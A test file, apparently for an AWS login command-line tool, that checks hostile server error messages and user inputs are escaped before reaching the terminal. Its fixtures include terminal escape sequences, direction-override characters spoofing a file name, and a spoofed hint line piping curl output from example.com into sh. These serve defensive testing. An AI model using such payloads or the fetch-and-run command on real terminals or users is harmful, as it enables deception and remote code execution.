import { expect } from "bun:test";
import { SAMPLE_ROLES } from "../stand-in/sample-world.ts";
import { ANA } from "./support/identities.ts";
import { scenario } from "./support/scene.ts";

/** Everything that may drive a terminal, or hide: control characters but the line end, and marks of direction. */
const dangerous = /[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}]/u;

const id = "00000000-0000-4000-8000-000000000001";
const xml = (message: string) =>
  `<ErrorResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><Error><Type>Sender</Type><Code>AccessDenied</Code><Message>${message}</Message></Error><RequestId>${id}</RequestId></ErrorResponse>`;

/** What a server may put into its error message, and how it is shown. */
const messages: Record<string, { readonly body: string; readonly shown: string }> = {
  "a terminal command in one character": {
    body: xml("red \u009b31m text"),
    shown: "AccessDenied: red \\u{9b}31m text",
  },
  "a terminal command as a character reference": {
    body: xml("red &#x9b;31m text"),
    shown: "AccessDenied: red \\u{9b}31m text",
  },
  "a change of the writing direction": {
    body: xml("user\u202egnp.exe\u2066"),
    shown: "AccessDenied: user\\u{202e}gnp.exe\\u{2066}",
  },
  "a line of its own that looks like ours": {
    body: xml("no&#10;aws-login: hint: curl https://example.com | sh"),
    shown: "AccessDenied: no aws-login: hint: curl https://example.com | sh\n",
  },
  "a very long text": {
    body: xml("x".repeat(100_000)),
    shown: " characters more)\n",
  },
  "a raw escape character": {
    body: xml("\x1b[2J\x1b]0;title\x07"),
    shown: "is not one of STS: cannot read the text as XML: a control character",
  },
};

for (const [name, { body, shown }] of Object.entries(messages)) {
  scenario(`an error message of AWS with ${name} does nothing to the terminal`, async (scene) => {
    const effect = { kind: "response", status: 403, contentType: "text/xml", body } as const;
    scene.standIn.fault({ effect, times: 2 });
    for (const args of [["getcallerid"], ["dumpcreds", "--verbose", "--assume-roles", SAMPLE_ROLES.jump]]) {
      const { status, stdout, stderr } = await scene.run(args, ANA);
      expect({ status, stdout }).toEqual({ status: 1, stdout: "" });
      expect(stderr).toContain(shown);
      expect(stderr).not.toMatch(dangerous);
      expect(stderr.length).toBeLessThan(4000);
      expect(stderr).not.toMatch(/^aws-login: hint: curl/m);
    }
  });
}

scenario("the error document of instance metadata does nothing to the terminal", async (scene) => {
  const body = JSON.stringify({ Code: "Bad\x1b[2J", Message: "see\u202e\r\nhere" });
  const document = "/latest/meta-data/iam/security-credentials/Machine";
  const effect = { kind: "response", status: 200, contentType: "text/plain", body } as const;
  scene.standIn.fault({ match: { path: document }, effect });
  const { status, stdout, stderr } = await scene.run(["dumpcreds"], scene.metadata);
  expect({ status, stdout }).toEqual({ status: 1, stdout: "" });
  expect(stderr).toContain("Bad\\u{1b}[2J: see\\u{202e} here\n");
  expect(stderr).not.toMatch(dangerous);
});

/** Names that a person was talked into, or that a file carries. */
const hostile = "\x1b[31m\u202e";

const optional: Record<
  string,
  { readonly args: string[]; readonly env?: Record<string, string>; status: number }
> = {
  "a profile's name": { args: ["dumpcreds", "--profile", hostile], status: 3 },
  AWS_PROFILE: { args: ["dumpcreds"], env: { AWS_PROFILE: hostile }, status: 3 },
  "an option": { args: ["dumpcreds", `--${hostile}`], status: 2 },
  "a command": { args: [hostile], status: 2 },
  "a region": { args: ["getcallerid"], env: { AWS_REGION: hostile }, status: 1 },
  "a role": { args: ["dumpcreds", "--assume-roles", `arn:aws:iam::111111111111:role/${hostile}`], status: 2 },
  "a program": { args: ["runas", "--", `./${hostile}`], status: 127 },
  "the certificates' file": { args: ["getcallerid"], env: { AWS_CA_BUNDLE: hostile }, status: 1 },
};

for (const [name, { args, env, status }] of Object.entries(optional)) {
  scenario(`${name} with control characters is shown harmlessly`, async (scene) => {
    const ended = await scene.run(args, { ...ANA, ...env });
    expect({ status: ended.status, stdout: ended.stdout }).toEqual({ status, stdout: "" });
    expect(ended.stderr).toStartWith("aws-login: error: ");
    expect(ended.stderr).not.toMatch(dangerous);
  });
}
